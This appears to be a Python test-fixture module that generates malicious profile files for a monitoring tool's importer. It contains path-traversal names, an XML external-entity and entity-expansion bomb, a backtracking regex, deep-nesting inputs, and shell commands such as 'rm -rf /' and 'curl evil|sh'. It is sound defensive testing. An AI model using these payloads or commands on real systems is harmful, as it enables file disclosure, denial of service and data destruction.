"""Files of profiles as somebody would make them who wants to harm."""

from __future__ import annotations

import json
from base64 import b64encode
from typing import TYPE_CHECKING, Any

if TYPE_CHECKING:
    from collections.abc import Iterator

_HEAD: dict[str, Any] = {"kind": "clacks-monitor profile", "format": 2}
_XML = "<Event xmlns='http://www.gonicus.de/Events'><ClientPoll/></Event>"
_BINARY = b64encode(bytes(range(256)) * 1000).decode()
_MARKUP = "<img src='/dev/zero'><a href='file:///etc/passwd'>x</a>"


def _profile(**values: Any) -> bytes:
    return json.dumps({**_HEAD, "name": "P", **values}).encode()


def _sample(**values: Any) -> dict[str, Any]:
    return {"name": "s", "expected": "match", "body": _XML, **values}


QUERIES = {
    "open brackets": "(" * 100_000,
    "balanced brackets": "(" * 49_999 + "1" + ")" * 49_999,
    "predicates": "." + "[." * 33_000,
    "closed predicates": "." + "[." * 30_000 + "]" * 30_000,
    "or": " or ".join(["a"] * 19_000),
    "steps": "/".join(["*"] * 50_000),
    "descendants": "//" + "//".join(["*"] * 33_000),
    "unions": "|".join(["a"] * 49_000),
    "minus": "-" * 99_999 + "1",
    "plus": "+".join(["1"] * 49_000),
    "comments": "(:" * 49_999,
    "nested comments": "(:" * 24_000 + ":)" * 24_000 + "1",
    "declarations": "".join(f"declare namespace a{n}='u';" for n in range(3_000)) + "1",
    "functions": "not(" * 24_000 + "1" + ")" * 24_000,
    "if": "if (1) then " * 7_000 + "1" + " else 1" * 7_000,
    "for": "for $a in 1 return " * 5_000 + "1",
    "let": "let $a := 1 " * 8_000 + "return 1",
    "some": "some $a in . satisfies " * 4_000 + "1",
    "number": "9" * 99_999,
    "decimal": "0." + "9" * 99_990,
    "exponent": "1e" + "9" * 99_990,
    "string": "'" + "x" * 99_990 + "'",
    "open string": "'" + "x" * 99_990,
    "entities": "'" + "&amp;" * 19_000 + "'",
    "regular expression": f"matches(., '{'(a*)*' * 10_000}')",
    "ranges": "count(1 to 999999999999) > 1",
    "nested loops": "for $a in 1 to 1000000, $b in 1 to 1000000, $c in 1 to 1000000 return $a",
    "constructors": "<a>" * 30_000,
    "sequence": ",".join(["1"] * 49_000),
    "names": "a" * 100_000,
    "spaces": " " * 100_000,
    "controls": "\x01\x02" * 50_000,
    "bidi": "\u202e" * 100_000,
    "nul": "a\0b",
    "markup": _MARKUP,
}

NAMES = {
    "path": "../../../../../../tmp/evil",
    "absolute": "/etc/passwd",
    "dots": "..",
    "hidden": ".bashrc",
    "control": "a\x1b[2Jb",
    "bidi": "a\u202eb",
    "line end": "a\nb",
    "nul": "a\0b",
    "half": "\ud800",
    "long": "x" * 100_000,
    "spaces": " " * 100,
    "combining": "a" + "\u0301" * 199,
    "markup": _MARKUP[:60],
    "device": "CON",
    "format": "%s%n{0}{name}%1%2",
    "number": 5,
    "null": None,
}

ALERTS: dict[str, Any] = {
    "shell": {"on_match": True, "command": ["sh", "-c", "touch /tmp/evil"]},
    "markup": {"on_match": True, "command": ["sh", "-c", "notify-send '<!-- curl evil|sh -->'"]},
    "bidi": {"on_match": True, "command": ["echo", "\u202erm -rf"]},
    "device": {"on_match": True, "command": ["cat", "/dev/zero"]},
    "many arguments": {"command": ["x"] * 101},
    "most arguments": {"on_match": True, "command": ["x" * 10_000] * 100},
    "not a list": {"command": "rm -rf /"},
    "numbers": {"command": [1, 2]},
    "pause": {"pause_s": 1e-9},
    "negative": {"absence_s": -1},
    "large": {"absence_s": 1e308},
    "true": True,
    "list": [[[[]]]],
}

OTHERS: dict[str, bytes] = {
    "empty": b"",
    "nul bytes": b"\0" * 1000,
    "utf-16": json.dumps({**_HEAD, "name": "P"}).encode("utf-16"),
    "not utf-8": b'{"kind": "\xff\xfe"}',
    "bom": b"\xef\xbb\xbf" + _profile(),
    "deep list": b"[" * 1_000_000,
    "deep object": b'{"a":' * 500_000,
    "deep value": _profile()[:-1] + b', "x": ' + b"[" * 1000 + b"]" * 1000 + b"}",
    "nan": _profile()[:-1] + b', "order": NaN}',
    "infinity": _profile()[:-1] + b', "x": -Infinity}',
    "overflow": _profile()[:-1] + b', "x": 1e400}',
    "digits": _profile()[:-1] + b', "order": ' + b"9" * 1_000_000 + b"}",
    "too large": b" " * (4 * 1024 * 1024 + 1),
    "many keys": json.dumps({**_HEAD, "name": "P", **{f"k{n}": n for n in range(100_000)}}).encode(),
    "duplicate keys": b'{"name": "a",' * 1 + _profile()[1:-1] + b', "name": "b"}',
    "later format": _profile(format=10**9),
    "negative format": _profile(format=-1),
    "format text": _profile(format="2"),
    "other kind": _profile(kind="clacks-monitor settings"),
    "order": _profile(order=2**63),
    "id path": _profile(id="../../evil"),
    "id long": _profile(id="x" * 100_000),
    "colour": _profile(colour="url(file:///dev/zero)"),
    "colour list": _profile(colour=["red"]),
    "active": _profile(active="yes"),
    "columns": _profile(columns=["x" * 2000] * 100),
    "many columns": _profile(columns=["time"] * 10_000),
    "column paths": _profile(columns=["../../x=" + "a/" * 900 + "b", "X=Y/@z", "X=" + "*/" * 500]),
    "description": _profile(description="\u202e" * 10_000),
    "description markup": _profile(description=_MARKUP),
    "million samples": b'{"kind":"clacks-monitor profile","format":2,"name":"P","samples":['
    + b"{}," * 999_999
    + b"{}]}",
    "201 samples": _profile(samples=[_sample()] * 201),
    "200 samples": _profile(samples=[_sample(name=f"s{n}") for n in range(200)]),
    "large sample": _profile(samples=[_sample(body="<a>" * 1_000_000)]),
    "deep sample": _profile(samples=[_sample(body="<a>" * 200_000 + "</a>" * 200_000)]),
    "attributes": _profile(samples=[_sample(body="<a " + " ".join(f"b{n}=''" for n in range(60_000)) + "/>")]),
    "binary sample": _profile(samples=[{"name": "s", "expected": "error", "body_base64": _BINARY}]),
    "entities": _profile(samples=[_sample(body="<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///dev/zero'>]><a>&x;</a>")]),
    "expansion": _profile(
        samples=[
            _sample(
                body="<!DOCTYPE a [<!ENTITY a0 'x'>"
                + "".join(f"<!ENTITY a{n + 1} '&a{n};&a{n};'>" for n in range(60))
                + "]><a>&a60;</a>"
            )
        ]
    ),
    "sample properties": _profile(samples=[_sample(properties={f"k{n}": n for n in range(20_000)})]),
    "sample list": _profile(samples=5),
    "other languages": _profile(in_other_languages={"en": {"samples": [1]}}),
}  # fmt: skip


def hostile_profiles() -> Iterator[tuple[str, bytes]]:
    """Yield the name and the file of each."""
    yield from ((f"query {name}", _profile(query=query)) for name, query in QUERIES.items())
    yield from ((f"name {name}", _profile(name=text)) for name, text in NAMES.items())
    yield from ((f"alert {name}", _profile(alert=alert)) for name, alert in ALERTS.items())
    yield from OTHERS.items()
